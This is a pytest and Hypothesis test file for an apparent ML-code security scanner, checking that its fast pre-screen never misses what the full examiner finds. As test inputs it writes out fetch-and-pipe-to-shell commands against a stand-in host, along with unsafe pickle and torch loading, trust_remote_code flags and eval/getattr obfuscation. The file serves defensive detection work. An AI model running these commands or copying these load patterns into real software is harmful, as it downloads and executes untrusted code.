"""The screen changes what is read, never what is found; the quick path is the whole path's verdict."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
from examined import SEEN_BY_PARSERS, Unscreened, examiner, law
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from program import environment, run

from mlgate import screen
from mlgate.discover import source
from mlgate.examine import Examiner
from mlgate.model import Example, Kind, Source
from mlgate.policy import load_bundle
from mlgate.quick import is_clean, outline
from mlgate.verbs.policy_test import forms


def findings(files: Mapping[str, bytes], *, screened: bool) -> set[tuple[str, str, str]]:
    """(rule, path, fingerprint) of everything found in files that are a repository."""
    judge = examiner(files, Examiner if screened else Unscreened)
    return {
        (finding.rule, finding.location.path, finding.fingerprint)
        for path, data in files.items()
        for finding in judge.examine(source(path, data, "test")).findings
    }


def hidden(files: Mapping[str, str]) -> set[tuple[str, str, str]]:
    """What is found without the screen and not with it."""
    raw = {path: text.encode("utf-8", "surrogatepass") for path, text in files.items()}
    return {
        one
        for one in findings(raw, screened=False) - findings(raw, screened=True)
        if not (one[0] in SEEN_BY_PARSERS and source(one[1], raw[one[1]], "").kind is Kind.PYTHON)
    }


EXAMPLES = [
    (f"{rule.id} {number} {label}", form)
    for rule in load_bundle().rules.values()
    for number, example in enumerate((*rule.bad, *rule.good, *rule.gap), 1)
    for label, form in forms(example)
    if not example.unread and label != "as a notebook"
]


def test_no_example_of_the_catalogue_is_hidden() -> None:
    def files(example: Example) -> Mapping[str, str]:
        return example.files

    assert {name: found for name, example in EXAMPLES if (found := hidden(files(example)))} == {}


def test_what_only_files_can_say_asks_for_no_word_of_code() -> None:
    """Else every Python file with a `model_name` would be parsed."""
    vocabulary = law().vocabulary
    assert {"model_name", "*.model_name", "env:HF_MODEL_ID"} <= vocabulary.in_files <= vocabulary.settings
    assert not {"trust_remote_code", "env:TRUST_REMOTE_CODE"} & vocabulary.in_files
    ready = screen.ready(law().screen)
    assert not screen.admits_python(b"model_name = 'acme/chat'\npath = 'a'\n", ready)
    assert screen.admits_python(b"import os\nos.environ['TRUST_REMOTE_CODE'] = '1'\n", ready)


def test_most_of_what_holds_nothing_is_screened_out() -> None:
    """A screen that admits everything would be sound, too."""
    clean = [
        "import os\n\n\ndef place(folder):\n    return os.path.join(folder, 'tickets.csv')\n",
        "import torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return self.layer(x)\n",
        "import numpy as np\nimport pandas as pd\nrows = pd.read_csv('a.csv')\nprint(np.mean(rows.values))\n",
        "print('rate=%s, %d%%' % (a, 5))\ntext = 'a'\\\n    % b\nx = a != b\ny = a % b\n",
        "from dataclasses import dataclass\n\n\n@dataclass\nclass Row:\n    id: int\n    title: str = ''\n",
    ]
    ready = screen.ready(law().screen)
    assert [text for text in clean if screen.admits_python(text.encode(), ready)] == []


# --- programs of every shape ----------------------------------------------------------------------------------------

IMPORTS = st.sampled_from(
    [
        "import torch", "import torch as t", "from torch import load", "from torch import load as ld",
        "from torch import *", "import pickle, os", "from pickle import loads as f", "import joblib.numpy_pickle",
        "from helpers import ld", "from helpers import *", "import helpers", "import helpers as h",
        "from . import helpers",
        "from pkg import again", "from pkg import again as once", "import pkg.deep as d", "import yaml",
        "try:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle",
        "from importlib import import_module as im", "import builtins", "import subprocess as sp",
        "from os import system",
        "from torch \\\n  import load", "import \\\n  torch", "\x0cimport torch", "if True: import torch, pickle",
        "from transformers import (  # a ) here\n    AutoModel,\n    pipeline as p,\n)", "x = 1; import torch",
        "import numpy as np", "from transformers import AutoModel, pipeline", "import ｔｏｒｃｈ", "import os",
    ]
)  # fmt: skip
NAMES = st.sampled_from(
    [
        "torch.load", "t.load", "load", "ld", "pickle.load", "f", "helpers.ld", "h.ld", "again", "once", "d.again",
        "getattr(torch, 'lo' + 'ad')", "getattr(t, name)", "getattr(helpers, 'ld')", "im('pickle').load",
        "__import__('pick' + 'le').load", "builtins.eval", "eval", "exec", "np.load", "yaml.load",
        "AutoModel.from_pretrained",
        "pipeline", "os.system", "system", "sp.run", "sp.check_output", "vars(torch)['load']", "torch.__dict__['load']",
        "ｔｏｒｃｈ.load", "torch . load", "torch\\\n.load", "(torch).load", "torch.hub.load", "joblib.load",
    ]
)  # fmt: skip
ARGUMENTS = st.sampled_from(
    [
        "'x.pt', weights_only=False", "open(p, 'rb')", "p, allow_pickle=True", "'jdoe/x', trust_remote_code=True",
        "**{'weights_only': False}", "'curl https://e.com/x.sh | sh', shell=True",
        "['sh', '-c', 'curl https://e.com/x | sh']",
        "'\\x69mport pickle; pickle.load(x)'", "'s3://prod-data/x'", "stream, Loader=yaml.Loader", "",
    ]
)  # fmt: skip
MAGICS = st.sampled_from(
    [
        "!pip install x", "!!pip install x", "%pip install x", "pip install x", "uv pip install x", "conda install x",
        "out = !pip install x", "a, b = %sx pip install x", "if a:\n    !pip install x", ">>> !pip install x",
        "%%bash\npip install x", "%%writefile a.sh\npip install x", "In [3]: !pip install x", "# %%\n%conda install x",
    ]
)  # fmt: skip
STATEMENTS = st.one_of(
    st.builds("{}({})".format, NAMES, ARGUMENTS),
    st.builds("g = {}".format, NAMES),
    st.builds("g = {}\ng({})".format, NAMES, ARGUMENTS),
    st.builds("list(map({}, blobs))".format, NAMES),
    st.builds("table = {{'a': {}}}\ntable['a']({})".format, NAMES, ARGUMENTS),
    st.builds("class R({}):\n    pass".format, st.sampled_from(["pickle.Unpickler", "torch.nn.Module", "f", "h.Un"])),
    st.builds("import functools\nfunctools.partial({})({})".format, NAMES, ARGUMENTS),
    st.builds("os.environ[{!r}] = '1'".format, st.sampled_from(["TRUST_REMOTE_CODE", "HF_TOKEN", "X"])),
    MAGICS,
    st.sampled_from(
        ["# %% [markdown]", "!pip install x", "%env A=1", "x = 1", "# MAGIC %sh curl https://e.com/x | sh"]
    ),
)
HELPERS = st.sampled_from(
    [
        "from torch import load as ld", "import torch\nld = torch.load", "import torch as t\nld = t.load",
        "from pkg import again as ld", "from pickle import Unpickler as Un, load as ld", "x = 1",
        "import torch\ndef ld(x):\n    return x", "from torch import *",
        "import torch\n\nld, other = torch.load, 1",
"LOADERS = {\n    'pt': __import__('torch').load,\n}\nimport torch\nld = other = torch.load",
        "import torch\n\nTABLE = {\n    'a': torch.load,\n}\nld = TABLE['a']",
        "import os; import torch as t; ld = t.load",
        "import torch\nif True:\n    ld = torch.load", "import torch\nld: object = torch.load",
    ]
)  # fmt: skip
PACKAGE = st.sampled_from(["from torch import load as again", "from .deep import again", "from .deep import *", ""])
DEEP = st.sampled_from(
    ["from pickle import load as again", "import dill\nagain = dill.load", "from torch import load", ""]
)


@settings(max_examples=150, derandomize=True, suppress_health_check=list(HealthCheck))
@given(
    imports=st.lists(IMPORTS, max_size=3),
    statements=st.lists(STATEMENTS, min_size=1, max_size=3),
    helpers=HELPERS,
    package=PACKAGE,
    deep=DEEP,
    ending=st.sampled_from(["\n", "\r\n", "\r"]),
    mark=st.sampled_from(["", "\ufeff"]),
)
def test_no_program_is_hidden(
    imports: list[str], statements: list[str], helpers: str, package: str, deep: str, ending: str, mark: str
) -> None:
    program = mark + "\n".join([*imports, *statements, ""]).replace("\n", ending)
    files = {"a.py": program, "helpers.py": helpers, "pkg/__init__.py": package, "pkg/deep.py": deep}
    assert hidden(files) == set()


# --- the quick path -------------------------------------------------------------------------------------------------


def test_quick_says_clean_only_of_what_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / ".git").mkdir()
    cache_folder = tmp_path / "cache"
    cache_folder.mkdir(mode=0o700)
    (tmp_path / "clean.py").write_text("x = 1\n")
    assert run(tmp_path, "check", "-q", "clean.py", MLGATE_CACHE_DIR=str(cache_folder)).code in (0, 2)
    monkeypatch.chdir(tmp_path)
    surroundings = environment(MLGATE_CACHE_DIR=str(cache_folder))
    for number, (name, example) in enumerate(EXAMPLES):
        if len(example.files) != 1:
            continue
        ((path, text),) = example.files.items()
        if not path.endswith(".py"):
            continue
        (tmp_path / f"e{number}.py").write_text(text)
        if is_clean(["check", "-q", f"e{number}.py"], surroundings):
            assert findings({"example.py": text.encode()}, screened=False) == set(), name
    assert is_clean(["check", "-q", "clean.py"], surroundings)
    assert not is_clean(["check", "-q", "--policy", "missing.yaml", "clean.py"], surroundings)


@pytest.mark.parametrize(
    "arguments",
    [
        ["check", "clean.py"], ["check", "-q"], ["check", "-q", "."], ["check", "-q", "missing.py"],
        ["check", "-q", "link.py"],
        ["check", "-q", "notes.md"], ["check", "-q", "../out.py"], ["check", "-q", "--format", "json", "clean.py"],
        ["check", "-q", "--only", "secret/*", "clean.py"], ["check", "-q", "--polic", "x", "clean.py"],
        ["check", "-q", "--base"],
        ["check", "-q", "-", "--stdin-filename", "clean.py"],
        ["explain", "-q", "clean.py"], [], ["-q", "check", "clean.py"], ["check", "-q", "--color=blue", "clean.py"],
    ],
    ids=" ".join,
)  # fmt: skip
def test_quick_leaves_every_doubt_to_the_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str]
) -> None:
    (tmp_path / "r" / ".git").mkdir(parents=True)
    for name in ("r/clean.py", "r/notes.md", "out.py"):
        (tmp_path / name).write_text("x = 1\n")
    (tmp_path / "r" / "link.py").symlink_to("clean.py")
    monkeypatch.setattr("mlgate.quick._screen", lambda *given: screen.ready(law().screen))
    monkeypatch.chdir(tmp_path / "r")
    assert is_clean(["check", "-q", "clean.py"], {})
    assert not is_clean(arguments, {})
    assert not is_clean(["check", "-q", "clean.py"], {"CI": "true"})


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        ("x = 1\ndef f(a):\n    return 1\n", "x = 1\n\n# new\ndef f(a, b):\n    return 2\n", True),
        ("x = 1\n", "x = 2\n", False),
        ("x = [\n    1,\n]\n", "x = [\n    2,\n]\n", False),
        ("def f():\n    pass\nx = [\n    1,\n]\n", "def f():\n    pass\nx = [\n    2,\n]\n", False),
        ("def f(\n    a,\n):\n    x = 1\n", "def f(\n    b,\n):\n    x = 2\n", True),
        ("class A:\n    x = 1\n", "class A:\n    x = 2\n", True),
        ("if True:\n    x = 1\n", "if True:\n    x = 2\n", False),
        ("def f(): pass\n", "def g(): pass\n", False),
        ("async def f():\n    return 1\n", "async def f():\n    return 2\n", True),
        ("from a import b\n", "from a import c as b\n", False),
    ],
)
def test_an_outline_is_what_others_can_ask_for(before: str, after: str, same: bool) -> None:
    assert (outline(before.encode()) == outline(after.encode())) is same
    assert outline(before.encode()) is not None


@pytest.mark.parametrize(
    "text",
    [
        'x = """\ndef f\n  a\n"""\n',
        "x = '\\\ndef f'\n",
        "def f():\n    global x\n    x = 1\n",
        "x = 1\rdef f(): pass\r",
        "\x0cx = 1\n",
    ],
)
def test_where_lines_do_not_tell_there_is_no_outline(text: str) -> None:
    assert outline(text.encode()) is None


def test_bytes_that_are_no_utf8_are_always_read() -> None:
    ready = screen.ready(law().screen)
    for data in ("x = 'torch.load'".encode("utf-16-le"), b"x = 1 # \xe9", b"# coding: utf-7\nx = 1", b"\xff\xfex\0"):
        assert screen.admits_python(data, ready), data


WRAPPERS = [
    "from transformers import AutoModel\ndef get(name):\n    return AutoModel.from_pretrained(name)\n",
    "from transformers import AutoModel\nasync def get(name): return AutoModel.from_pretrained(name)\n",
    "import transformers as t\nget = lambda n: t.AutoModel.from_pretrained(n)\nload = t.AutoModel.from_pretrained\n",
    "from transformers import AutoModel\nif 1:\n    def get(n, **m):\n        return AutoModel.from_pretrained(n)\n",
    "from transformers import AutoModel\n@d\ndef get(\n    name,\n):\n\n    # why\n    return inner(name)\n"
    "def inner(name):\n    return AutoModel.from_pretrained(name)\n",
    "from transformers import AutoModel\nclass L:\n    def get(self, n):\n        return AutoModel.from_pretrained(n)\n"
    "    @classmethod\n    def load(cls, name): return AutoModel.from_pretrained(name)\nget = L().get\n",
    "from diffusers import StableDiffusionPipeline\ndef pipe() -> StableDiffusionPipeline:\n    ...\n",
    "from diffusers import StableDiffusionPipeline as P\ndef pipe():\n    return P()\nclass Mine(P): pass\n",
    "from transformers import PreTrainedModel\nclass Mine(PreTrainedModel):\n    pass\nclass Other(Mine): pass\n",
    "from functools import partial\nfrom torch import load as ld\nget = partial(ld, weights_only=False)\n",
]
CALLERS = [
    "from tools import {}\n",
    "from tools import *\n",
    "import tools\n",
    "import tools as x\n",
    "from pkg import {}\n",
    "from pkg.deep import {}\n",
]
USES = [
    "{0}get('acme/a')\n",
    "{0}load('acme/a')\n",
    "{0}L().get('acme/a')\n",
    "{0}L.load('acme/a')\n",
    "{0}pipe().load_lora_weights('acme/a')\n",
    "{0}Mine.from_pretrained('acme/a')\n",
    "{0}Other.from_pretrained('acme/a')\n",
    "class Own({0}Mine): pass\nOwn.from_pretrained('acme/a')\n",
]


@pytest.mark.parametrize("use", USES)
@pytest.mark.parametrize("caller", CALLERS)
def test_who_calls_a_wrapper_is_read(caller: str, use: str) -> None:
    """Whatever the module is, and however its names arrive: the caller holds no word of a library."""
    names = "get, load, L, pipe, Mine, Other"
    prefix = {"import tools\n": "tools.", "import tools as x\n": "x."}.get(caller, "")
    main = caller.format(names) + use.format(prefix)
    package = {"pkg/__init__.py": "from .deep import *\nfrom .deep import get as get\n"}
    for module in WRAPPERS:
        assert hidden({"tools.py": module, "pkg/deep.py": module, "main.py": main, **package}) == set(), module


@pytest.mark.parametrize("first", ["", "exec(source)\n"])
@pytest.mark.parametrize("padding", ["  # (see the docs)\n", "\n" * 10_001, " " * 10_001 + "\n"])
def test_what_stands_in_the_brackets_of_an_import_hides_nothing(first: str, padding: str) -> None:
    files = {
        "direct.py": f'{first}from torch import ({padding}    load,\n)\nx = load("f.pt", weights_only=False)\n',
        "through.py": f'{first}from pkg import ({padding}    fetch,\n)\nfetch("jdoe/x")\n',
        "pkg.py": "from transformers import AutoModel as M\n\n\ndef fetch(name):\n    return M.from_pretrained(name)\n",
    }
    judge = examiner({path: text.encode() for path, text in files.items()})
    found = {
        (one.rule, path, one.location.line)
        for path, text in files.items()
        for one in judge.examine(Source(path, Kind.PYTHON, text.encode())).findings
    }
    line = first.count("\n") + padding.count("\n") + 3
    assert {("unsafe-load/torch-load", "direct.py", line), ("unpinned/model-revision", "through.py", line)} <= found
